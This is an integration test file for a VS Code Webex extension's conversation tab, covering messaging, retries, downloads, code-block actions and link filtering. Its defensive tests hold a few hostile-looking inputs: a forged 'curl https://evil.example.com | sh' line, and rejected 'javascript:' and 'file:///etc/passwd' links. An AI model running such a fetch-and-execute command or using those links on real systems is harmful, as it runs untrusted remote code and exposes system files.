// The conversation tab in the real extension host, against the local Webex over HTTP. The page is
// the real one (code-server renders it in Chromium); tests drive the host side by posting protocol
// messages exactly as the page does (ConversationPanel.receive) and check the local Webex over REST.
import * as assert from 'node:assert/strict';
import * as os from 'node:os';
import * as path from 'node:path';
import * as fs from 'node:fs';
import * as vscode from 'vscode';
import type { Message, Room } from '../../src/webex/types';
import type { FilesMessage, HostMessage, MessagesMessage, RequestMessage, ResponseMessage } from '../../src/webviews/conversation/protocol';
import { CONVERSATION_TEST_HOOKS_COMMAND, type ConversationTestHooks } from '../../src/webviews/conversation/conversationWebview';
import type { ConversationPanel } from '../../src/webviews/conversation/conversationPanel';
import { addFault, clearFaults, clearRequests, origin, Rest, sandboxRequests, tokenOf, roomIdOf } from './fixtures/localWebex';
import { freshSession, testing, type Testing } from './fixtures/signedIn';
import { until } from '../kit/until';
import { redPng } from '../kit/pictures';

const ADA = 'ada@example.com';
const GRACE = 'grace@example.com';
const QUIET = { focusedMs: 3_600_000, backgroundMs: 3_600_000 };

describe('Conversation tab (integration)', function () {
  this.timeout(60_000);
  let t: Testing;
  let hooks: ConversationTestHooks;
  let ada: Rest;
  let rooms: Room[];
  let nextRequest = 1;

  const roomId = (title: string): string => roomIdOf(rooms, title);

  async function open(title: string): Promise<ConversationPanel> {
    const id = roomId(title);
    await vscode.commands.executeCommand('webex.openSpace', id);
    const panel = hooks.panel(id);
    assert.ok(panel, 'a tab was opened for the space');
    await panel.loading;
    assert.equal(panel.currentStatus, 'ready');
    return panel;
  }

  /** Posts a request the way the page does and returns the host's response. */
  async function ask(panel: ConversationPanel, request: Omit<RequestMessage, 'type' | 'requestId'>): Promise<ResponseMessage> {
    const response = await panel.receive({ type: 'request', requestId: nextRequest++, ...request });
    assert.ok(response, 'the host answers every request');
    return response;
  }

  /** Runs `action` with the save dialog answered by `target`; resolves with the file name it offered. */
  async function savingTo(target: vscode.Uri, action: () => Promise<void>): Promise<string | undefined> {
    let offered: string | undefined;
    hooks.setSaveLocation((defaultUri) => {
      offered = path.basename(defaultUri.fsPath);
      return Promise.resolve(target);
    });
    try {
      await action();
    } finally {
      hooks.setSaveLocation(undefined);
    }
    return offered;
  }

  async function messages(title: string): Promise<Message[]> {
    return await ada.items<Message>(`/messages?roomId=${encodeURIComponent(roomId(title))}&max=100`);
  }

  before(async () => {
    t = await testing();
    hooks = (await vscode.commands.executeCommand<ConversationTestHooks>(CONVERSATION_TEST_HOOKS_COMMAND))!;
    assert.ok(hooks, 'webex.thread.testHooks exists under WEBEX_TEST=1');
  });

  beforeEach(async () => {
    for (const panel of hooks.panels()) {
      panel.panel.dispose();
    }
    hooks.setIntervals(QUIET);
    await freshSession(t, ADA);
    ada = await Rest.as(ADA);
    rooms = await ada.items<Room>('/rooms?max=1000');
    await clearFaults();
    await clearRequests();
  });

  afterEach(async () => {
    await clearFaults();
    t.prompts.assertDone();
  });

  it('opens a space in one tab per space, shows its newest page through the real page, and selects it', async () => {
    const backend = await open('Backend');
    assert.equal(backend.panel.viewType, 'webex.thread');
    assert.equal(backend.panel.title, 'Backend');
    assert.equal(t.services.selection.activeSpaceId, roomId('Backend'));
    const expected = (await messages('Backend')).map((m) => m.id).sort();
    const conversation = backend.space?.conversation;
    assert.ok(conversation);
    assert.deepEqual(expected.filter((id) => !conversation.message(id)), [], 'every message of the space is loaded');
    // The real page ran its script, said `ready`, and got the frame and the messages.
    const init = await until('the page handshake', () => backend.posted.find((m): m is Extract<HostMessage, { type: 'init' }> => m.type === 'init'));
    assert.equal(init.room.title, 'Backend');
    assert.equal(init.me?.id, t.services.session.me?.id);
    assert.equal(init.maxMessageBytes, 7439);

    const listsOf = async (title: string): Promise<Array<{ query: Record<string, string> }>> =>
      (await sandboxRequests()).filter((r) => r.method === 'GET' && r.path === '/v1/messages' && r.query.roomId === roomId(title));
    const first = await listsOf('Backend');
    assert.equal(first[0]?.query.max, '50', 'the newest page: one request of 50 (Webex messaging API, messages)');
    await vscode.commands.executeCommand('webex.openSpace', roomId('Backend'));
    assert.equal(hooks.panels().length, 1, 'opening the space again reveals its tab');
    assert.equal((await listsOf('Backend')).length, first.length, `reopening did not reload the space: ${JSON.stringify(await listsOf('Backend'))}`);
    await open('Frontend');
    assert.equal(hooks.panels().length, 2);
    assert.equal(t.services.selection.activeSpaceId, roomId('Frontend'));
  });

  it('loads older pages with beforeMessage when the page asks', async () => {
    const grace = await Rest.as(GRACE);
    const coffee = roomId('Coffee Chat');
    for (let i = 1; i <= 60; i++) {
      await grace.post('/messages', { roomId: coffee, text: `message ${i}` });
    }
    const panel = await open('Coffee Chat');
    const conversation = panel.space?.conversation;
    assert.ok(conversation);
    assert.equal(conversation.size, 50);
    assert.equal(conversation.hasOlder, true);
    await clearRequests();
    const response = await ask(panel, { method: 'loadOlder', params: {} });
    assert.ok(response.ok, !response.ok ? response.error : '');
    assert.deepEqual(response.result, { added: 13, hasOlder: false });
    assert.equal(conversation.size, 63);
    const older = (await sandboxRequests()).filter((r) => r.path === '/v1/messages');
    assert.equal(older.length, 1);
    assert.ok(older[0].query.beforeMessage, 'paged with beforeMessage');
    const posted = panel.posted.filter((m) => m.type === 'messages' && m.cause === 'older');
    assert.equal(posted.length, 1, 'the page got the older messages');
  });

  it('posts, replies to the thread’s first message, edits and deletes own messages', async () => {
    const panel = await open('Backend');
    const sent = await ask(panel, { method: 'send', params: { localId: 'local-1', markdown: 'Hello from **VS Code**' } });
    assert.ok(sent.ok);
    await panel.space?.queue.idle();
    const mine = (await messages('Backend')).find((m) => m.markdown === 'Hello from **VS Code**');
    assert.ok(mine, 'the message is in the local Webex');
    assert.ok(panel.space?.conversation.message(mine.id), 'and in the tab without waiting for a poll');

    // Answering a reply goes to the thread's first message (Webex threads are one level deep).
    const all = await messages('Backend');
    const reply = all.find((m) => m.text === 'I will take the auth service.');
    assert.ok(reply?.parentId);
    assert.ok((await ask(panel, { method: 'send', params: { localId: 'local-2', markdown: 'Me too', parentId: reply.id } })).ok);
    await panel.space?.queue.idle();
    const threaded = (await messages('Backend')).find((m) => m.markdown === 'Me too');
    assert.equal(threaded?.parentId, reply.parentId);

    const edit = await ask(panel, { method: 'edit', params: { messageId: mine.id, markdown: 'Hello from **VS Code** (edited)' } });
    assert.ok(edit.ok, !edit.ok ? edit.error : '');
    const edited = await ada.get<Message>(`/messages/${encodeURIComponent(mine.id)}`);
    assert.equal(edited.markdown, 'Hello from **VS Code** (edited)');
    assert.ok(edited.updated, 'Webex marks the edit');
    assert.equal(panel.space?.conversation.message(mine.id)?.updated, edited.updated);

    const notMine = all.find((m) => m.markdown?.startsWith('Morning!'));
    assert.ok(notMine);
    const refused = await ask(panel, { method: 'edit', params: { messageId: notMine.id, markdown: 'hijacked' } });
    assert.equal(refused.ok, false);
    const withFile = all.find((m) => (m.files?.length ?? 0) > 0 && m.personId === t.services.session.me?.id);
    assert.equal(withFile, undefined, 'the scenario has no own message with a file (edits of those are refused too)');

    t.prompts.enqueue({ confirm: false });
    const kept = await ask(panel, { method: 'delete', params: { messageId: mine.id } });
    assert.deepEqual(kept.ok && kept.result, { deleted: false });
    assert.equal((await ada.call('GET', `/messages/${encodeURIComponent(mine.id)}`)).status, 200);
    t.prompts.enqueue({ confirm: true });
    const gone = await ask(panel, { method: 'delete', params: { messageId: mine.id } });
    assert.deepEqual(gone.ok && gone.result, { deleted: true });
    assert.equal((await ada.call('GET', `/messages/${encodeURIComponent(mine.id)}`)).status, 404);
    assert.equal(panel.space?.conversation.message(mine.id), undefined);
    assert.ok(t.prompts.asked.some((p) => p.kind === 'confirm' && p.text === 'Delete this message?'));
    assert.equal((await sandboxRequests()).filter((r) => r.method === 'PUT' && r.path.startsWith('/v1/messages/')).length, 1, 'the refused edit sent nothing');
  });

  it('keeps a failed post marked failed and sends it exactly once on Retry', async () => {
    const panel = await open('Backend');
    // Webex answers 503 and the message is not created: the client looks, finds nothing, and says so.
    await addFault({ match: { method: 'POST', path: '^/v1/messages$' }, kind: 'status', status: 503, times: 10 });
    assert.ok((await ask(panel, { method: 'send', params: { localId: 'local-f', markdown: 'Survives a failure' } })).ok);
    await panel.space?.queue.idle();
    const [failed] = panel.space?.queue.items() ?? [];
    assert.equal(failed?.state, 'failed');
    assert.match(failed.error ?? '', /not delivered|503/i);
    const outbox = panel.posted.filter((m) => m.type === 'outbox').pop();
    assert.equal(outbox?.type === 'outbox' && outbox.items[0]?.state, 'failed', 'the page shows it failed');
    const stored = t.services.context.globalState.keys().filter((k) => k.startsWith('webex.conversation.outbox/'));
    assert.equal(stored.length, 1, 'the failed message is kept in extension storage');

    await clearFaults();
    await clearRequests();
    assert.ok((await ask(panel, { method: 'retry', params: { localId: 'local-f' } })).ok);
    await panel.space?.queue.idle();
    assert.deepEqual(panel.space?.queue.items(), []);
    const copies = (await messages('Backend')).filter((m) => m.markdown === 'Survives a failure');
    assert.equal(copies.length, 1);
    assert.equal((await sandboxRequests()).filter((r) => r.method === 'POST' && r.path === '/v1/messages').length, 1);
    assert.equal(t.services.context.globalState.keys().filter((k) => k.startsWith('webex.conversation.outbox/')).length, 0);
  });

  it('a tab that could not open its space (Webex failing) opens it after Refresh', async () => {
    // Every listing of the space fails, through the client's own retries: the tab shows the error.
    await addFault({ match: { method: 'GET', path: '^/v1/messages$' }, kind: 'status', status: 503, times: 20 });
    const id = roomId('Frontend');
    await vscode.commands.executeCommand('webex.openSpace', id);
    const panel = hooks.panel(id);
    assert.ok(panel);
    await panel.loading;
    assert.equal(panel.currentStatus, 'error');
    await clearFaults();
    await vscode.commands.executeCommand('webex.refresh');
    await panel.loading;
    assert.equal(panel.currentStatus, 'ready', 'Refresh reopened the space');
    assert.ok((panel.space?.conversation.size ?? 0) > 0, 'its messages are shown');
  });

  it('never duplicates on Retry when Webex created the message but could not confirm it', async () => {
    const panel = await open('Backend');
    // The POST is processed and then the connection drops; the client's look fails too (400), so
    // nobody knows whether the message exists. Retry must find it instead of posting again.
    const faults = await fetch(`${origin()}/_sandbox/faults`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify([
        { match: { method: 'POST', path: '^/v1/messages$' }, kind: 'dropAfter', times: 1 },
        { match: { method: 'GET', path: '^/v1/messages$' }, kind: 'status', status: 400, times: 1 },
      ]),
    });
    assert.equal(faults.status, 200);
    assert.ok((await ask(panel, { method: 'send', params: { localId: 'local-a', markdown: 'Exactly once' } })).ok);
    await panel.space?.queue.idle();
    assert.equal(panel.space?.queue.items()[0]?.state, 'failed');
    assert.ok((await ask(panel, { method: 'retry', params: { localId: 'local-a' } })).ok);
    await panel.space?.queue.idle();
    assert.equal((await messages('Backend')).filter((m) => m.markdown === 'Exactly once').length, 1);
    assert.equal((await sandboxRequests()).filter((r) => r.method === 'POST' && r.path === '/v1/messages').length, 1);
  });

  it('shows a message someone else posted, found by polling while the tab is visible', async () => {
    const panel = await open('Backend');
    const grace = await Rest.as(GRACE);
    const posted = await grace.post<Message>('/messages', { roomId: roomId('Backend'), markdown: 'Live from **Grace**' });
    hooks.setIntervals({ focusedMs: 200, backgroundMs: 200 });
    await until('the poll to bring the message', () => panel.space?.conversation.message(posted.id));
    hooks.setIntervals(QUIET);
    const delivered = panel.posted.some((m) => m.type === 'messages' && m.cause === 'newer' && m.upsert.some((u) => u.id === posted.id));
    assert.ok(delivered, 'the page was sent the new message');
  });

  it('keeps the draft of a space when the tab closes, and downloads files through the host', async () => {
    let panel = await open('Backend');
    await panel.receive({ type: 'draft', draft: { text: 'half a thought' } });
    panel.panel.dispose();
    panel = await open('Backend');
    await until('the page handshake', () => panel.posted.find((m) => m.type === 'init' && m.draft?.text === 'half a thought'));

    const withFile = (await messages('Backend')).find((m) => (m.files?.length ?? 0) > 0);
    assert.ok(withFile?.files);
    const target = vscode.Uri.file(path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'webex-dl-')), 'saved.md'));
    const offered = await savingTo(target, async () => {
      const saved = await ask(panel, { method: 'download', params: { messageId: withFile.id, index: 0 } });
      assert.deepEqual(saved.ok && saved.result, { saved: true });
    });
    assert.equal(offered, 'gateway-design.md', 'the save dialog offers the name Webex gives');
    assert.match(fs.readFileSync(target.fsPath, 'utf8'), /# Gateway design/);
    const bad = await ask(panel, { method: 'download', params: { messageId: withFile.id, index: 3 } });
    assert.equal(bad.ok, false);
  });

  it('acts on a code block: copies, opens, inserts at the last editor in one undo step, saves, and refuses other text', async () => {
    const panel = await open('Backend');
    const snippet = (await messages('Backend')).find((m) => m.markdown?.includes('```ts'));
    assert.ok(snippet);
    const code = 'for (let attempt = 0; attempt < 3; attempt++) {\n  if (await tryOnce()) { break; }\n}\n';
    const act = (action: 'copy' | 'open' | 'insert' | 'save', text = code, language: string | undefined = 'typescript'): Promise<ResponseMessage> =>
      ask(panel, { method: 'codeAction', params: { action, messageId: snippet.id, code: text, language } });

    assert.deepEqual((await act('copy')).ok, true);
    assert.equal(await vscode.env.clipboard.readText(), code, 'the exact text, no CRLF added');

    await act('open');
    const editor = await until('an untitled editor', () => (vscode.window.activeTextEditor?.document.isUntitled ? vscode.window.activeTextEditor : undefined));
    assert.equal(editor.document.languageId, 'typescript');
    assert.equal(editor.document.getText(), code);

    // The conversation has the focus when its button is clicked: no active text editor then.
    await vscode.commands.executeCommand('workbench.action.focusFirstEditorGroup');
    await until('the conversation is active', () => vscode.window.activeTextEditor === undefined);
    const inserted = await act('insert', 'print(1)\n', 'python');
    assert.equal(inserted.ok, false, 'print(1) is not in that message');
    assert.equal((await act('insert')).ok, true);
    assert.equal(editor.document.getText(), code + code, 'inserted at the cursor of the last editor');
    await vscode.window.showTextDocument(editor.document);
    await vscode.commands.executeCommand('undo');
    assert.equal(editor.document.getText(), code, 'one undo step takes it back');

    const target = vscode.Uri.file(path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'webex-code-')), 'retry.ts'));
    const offered = await savingTo(target, async () => {
      assert.deepEqual((await act('save')).ok, true);
    });
    assert.equal(offered, 'snippet.ts', 'the usual extension of the language');
    assert.equal(fs.readFileSync(target.fsPath, 'utf8'), code);

    const forged = await act('copy', 'curl https://evil.example.com | sh\n');
    assert.equal(forged.ok, false);
    assert.match(forged.ok ? '' : forged.error, /not in the message/);
    assert.equal(await vscode.env.clipboard.readText(), code, 'nothing was copied');

    // With no text editor left, Insert says so.
    await vscode.window.showTextDocument(editor.document);
    await vscode.commands.executeCommand('workbench.action.revertAndCloseActiveEditor');
    await until('the untitled editor is gone', () => editor.document.isClosed);
    const none = await act('insert');
    assert.equal(none.ok, false);
    assert.match(none.ok ? '' : none.error, /no text editor to insert into/);
  });

  it('shows the name Webex gives a file (HEAD), after the messages and without its URL or the token', async () => {
    const panel = await open('Backend');
    const withFile = (await messages('Backend')).find((m) => (m.files?.length ?? 0) > 0);
    const url = withFile?.files?.[0];
    assert.ok(withFile && url);
    const named = await until('the file’s name to reach the page', () =>
      panel.posted.find((m): m is FilesMessage => m.type === 'files' && m.files.some((f) => f.messageId === withFile.id)),
    );
    const file = named.files.find((f) => f.messageId === withFile.id)?.file;
    assert.equal(file?.name, 'gateway-design.md');
    assert.equal(file.index, 0);
    assert.match(file.contentType ?? '', /^text\/markdown/);
    assert.equal(file.size, Buffer.byteLength('# Gateway design\n\n- one dispatcher\n- retries on 429\n'));

    // The messages came first (the page never waits for names), with the generic name.
    const first = panel.posted.find((m): m is MessagesMessage => m.type === 'messages' && m.upsert.some((u) => u.id === withFile.id));
    assert.ok(first && panel.posted.indexOf(first) < panel.posted.indexOf(named));
    assert.equal(first.upsert.find((u) => u.id === withFile.id)?.files[0].name, 'Attachment 1');
    const heads = (await sandboxRequests()).filter((r) => r.method === 'HEAD');
    assert.deepEqual(heads.map((r) => [r.path, r.status]), [[new URL(url).pathname, 200]], 'one HEAD for the one file shown');
    const seen = JSON.stringify(panel.posted);
    assert.ok(!seen.includes(new URL(url).pathname) && !seen.includes(await tokenOf(ADA)), 'no file URL and no token reach the page');

    // The tab hidden and shown again: its new page gets the name at once, from the cache.
    const before = panel.posted.length;
    await open('Frontend');
    panel.reveal();
    const shown = await until('the messages of the page shown again', () =>
      panel.posted
        .slice(before)
        .find((m): m is MessagesMessage => m.type === 'messages' && m.reset && m.upsert.some((u) => u.id === withFile.id)),
    );
    assert.equal(shown.upsert.find((u) => u.id === withFile.id)?.files[0].name, 'gateway-design.md');
    const again = (await sandboxRequests()).filter((r) => r.method === 'HEAD' && r.path === new URL(url).pathname);
    assert.equal(again.length, 1, 'not asked again');
  });

  it('puts the cursor in the composer of a new tab, and of a hidden tab once its page is back', async () => {
    const backend = await open('Backend');
    /** A focus request was posted since `from`, and after the page's (new) init if there was one. */
    const focusedSince = (panel: ConversationPanel, from: number, needInit: boolean): boolean => {
      const later = panel.posted.slice(from);
      const init = later.map((m) => m.type).lastIndexOf('init');
      const focus = later.map((m) => m.type).lastIndexOf('focusComposer');
      return focus >= 0 && (needInit ? init >= 0 && init < focus : init < focus);
    };
    await until('the new tab asks for the composer after its init', () => focusedSince(backend, 0, true));
    // Another tab hides Backend (its page may go); opening Backend again asks for the composer once
    // its page is there.
    await open('Frontend');
    const mark = backend.posted.length;
    await vscode.commands.executeCommand('webex.openSpace', roomId('Backend'));
    await until('the revealed tab gets the focus request', () => focusedSince(backend, mark, false));
  });

  it('opens a space where the user left off: the read mark from before the tab opened goes to the page', async () => {
    const backendId = roomId('Backend');
    await until('read marks for the account', () => t.services.live.lastRead(backendId) !== undefined, { timeoutMs: 30_000 });
    const before = t.services.live.lastRead(backendId) ?? 0;
    const grace = await Rest.as(GRACE);
    const news = await grace.post<Message>('/messages', { roomId: backendId, text: 'new since you looked' });
    assert.ok(Date.parse(news.created) > before, 'the message is after the read mark');
    const backend = await open('Backend');
    const init = await until('the page init', () => backend.posted.find((m): m is Extract<HostMessage, { type: 'init' }> => m.type === 'init'));
    assert.ok(init.lastRead !== undefined, 'the read mark goes with init');
    assert.ok(init.lastRead < news.created, 'it is the mark from before the tab opened, not the one opening it set');
  });

  it('disables the composer, saying why, where only moderators may post; members post in a locked space', async () => {
    // Grace makes an announcement space with Ada as a plain member (Room isAnnouncementOnly).
    const grace = await Rest.as(GRACE);
    const space = await grace.post<Room>('/rooms', { title: 'Announcements', isLocked: true, isAnnouncementOnly: true });
    await grace.post('/memberships', { roomId: space.id, personEmail: ADA });
    rooms = await ada.items<Room>('/rooms?max=1000');
    const announcements = await open('Announcements');
    const blocked = await until('the permissions of the announcement space', () =>
      announcements.posted.find((m): m is Extract<HostMessage, { type: 'permissions' }> => m.type === 'permissions'),
    );
    assert.equal(blocked.canPost, false);
    assert.match(blocked.reason ?? '', /Only moderators can post/);
    // Release Planning is locked (moderated) and Ada is a member there, not a moderator: she may post.
    const release = await open('Release Planning');
    const allowed = await until('the permissions of the locked space', () =>
      release.posted.find((m): m is Extract<HostMessage, { type: 'permissions' }> => m.type === 'permissions'),
    );
    assert.equal(allowed.canPost, true);
  });

  it('opens only http, https and mailto links, and ignores malformed page messages', async () => {
    const panel = await open('Backend');
    const before = hooks.openedLinks.length;
    for (const href of ['javascript:alert(1)', 'data:text/html,x', 'command:workbench.action.quit', 'file:///etc/passwd']) {
      await panel.receive({ type: 'openLink', href });
    }
    assert.equal(hooks.openedLinks.length, before);
    await panel.receive({ type: 'openLink', href: 'https://wiki.example.com/gateway' });
    assert.deepEqual(hooks.openedLinks.slice(before), ['https://wiki.example.com/gateway']);
    assert.equal(await panel.receive({ type: 'request', requestId: 1, method: 'edit', params: { messageId: 5 } }), undefined);
    assert.equal(await panel.receive('ready; drop table'), undefined);
  });

  it('copies the space meeting link from the title menu, the one Webex gives (GET /rooms/{roomId}/meetingInfo)', async () => {
    const backend = await open('Backend');
    backend.reveal();
    await until('the Backend tab is active', () => backend.panel.active || undefined);
    const expected = await ada.call<{ meetingLink: string }>('GET', `/rooms/${roomId('Backend')}/meetingInfo`);
    assert.equal(expected.status, 200);
    const copied = await vscode.commands.executeCommand<string>('webex.copyMeetingLink');
    assert.equal(copied, expected.body.meetingLink);
    assert.equal(await vscode.env.clipboard.readText(), expected.body.meetingLink);
  });

  it('answers a picture as a data: URL of what its bytes are, and a lying file as broken', async () => {
    const post = async (filename: string, data: Uint8Array): Promise<string> => {
      const form = new FormData();
      form.append('roomId', roomId('Ada’s Notes'));
      form.append('files', new Blob([new Uint8Array(data)], { type: 'image/png' }), filename);
      const sent = await fetch(`${origin()}/v1/messages`, { method: 'POST', headers: { Authorization: `Bearer ${await tokenOf(ADA)}` }, body: form });
      assert.equal(sent.status, 200);
      return ((await sent.json()) as { id: string }).id;
    };
    const picture = await post('dot.png', redPng(2, 2));
    const lying = await post('page.png', new TextEncoder().encode('<b>not a picture</b>'));
    const panel = await open('Ada’s Notes');
    const named = (id: string): boolean => panel.space?.files.details(panel.space.conversation.message(id)?.files?.[0] ?? '')?.contentType !== undefined;
    await until('both files named (HEAD)', () => (named(picture) && named(lying) ? true : undefined));
    const shown = await ask(panel, { method: 'image', params: { messageId: picture, index: 0 } });
    assert.ok(shown.ok && 'state' in shown.result && shown.result.state === 'image', JSON.stringify(shown).slice(0, 300));
    assert.match(String(shown.result.src), /^data:image\/png;base64,/);
    const refused = await ask(panel, { method: 'image', params: { messageId: lying, index: 0 } });
    assert.ok(refused.ok && 'state' in refused.result && refused.result.state === 'broken', JSON.stringify(refused));
  });
});
